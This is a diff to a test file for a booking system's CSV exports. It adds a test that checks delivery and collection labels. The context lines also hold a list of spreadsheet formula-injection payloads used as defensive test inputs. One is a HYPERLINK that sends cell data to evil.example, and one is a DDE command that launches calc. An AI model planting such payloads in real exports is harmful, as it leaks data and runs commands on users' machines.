@@ -217,6 +217,30 @@ describe('CSV', () => {
     expect(rows[0].created_at).toMatch(/^\d{4}-\d{2}-\d{2}T/);
   });
 
+  it('both CSVs say whether each booking is delivered or collected, in the words staff read (decision 072)', async () => {
+    const customer = await createCustomer(ctx, { name: 'Efua Handover' });
+    const delivered = await createCheckedOutBooking(ctx, customer.user.id);
+    const collected = await createCheckedOutBooking(ctx, customer.user.id);
+    await ctx.database.db.update(bookings).set({ handover: 'collection', dropoffAddressId: null }).where(eq(bookings.id, collected.id));
+    const today = todayInAccra();
+
+    const orders = await call(ctx.app, 'GET', `/api/ops/bookings.csv?search=${encodeURIComponent('Efua Handover')}&ordering=order_number`, { token: admin.token });
+    expect(orders.status).toBe(200);
+    const rows = parse(orders.response.body, { columns: true }) as Record<string, string>[];
+    expect(rows.map((row) => row.handover)).toEqual(['Delivery', 'Collection at branch']);
+    expect(Object.keys(rows[0]).at(-1)).toBe('handover');
+
+    const json = await report('bookings/', `?from=${today}&to=${today}`);
+    expect(json.json.by_handover.collection).toBeGreaterThanOrEqual(1);
+    expect(json.json.by_handover.delivery).toBeGreaterThanOrEqual(1);
+    const csv = await report('bookings.csv', `?from=${today}&to=${today}`);
+    const records = parse(csv.response.body, { columns: true }) as Record<string, string>[];
+    expect(records.filter((record) => record.section === 'handover')).toEqual([
+      { section: 'handover', name: 'Delivery', bookings: String(json.json.by_handover.delivery), quantity: '', amount: '', unit: '' },
+      { section: 'handover', name: 'Collection at branch', bookings: String(json.json.by_handover.collection), quantity: '', amount: '', unit: '' },
+    ]);
+  });
+
   /** Cells a spreadsheet would run as a formula, as OWASP lists their first characters. */
   const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+2', '\r=1+2'];
 
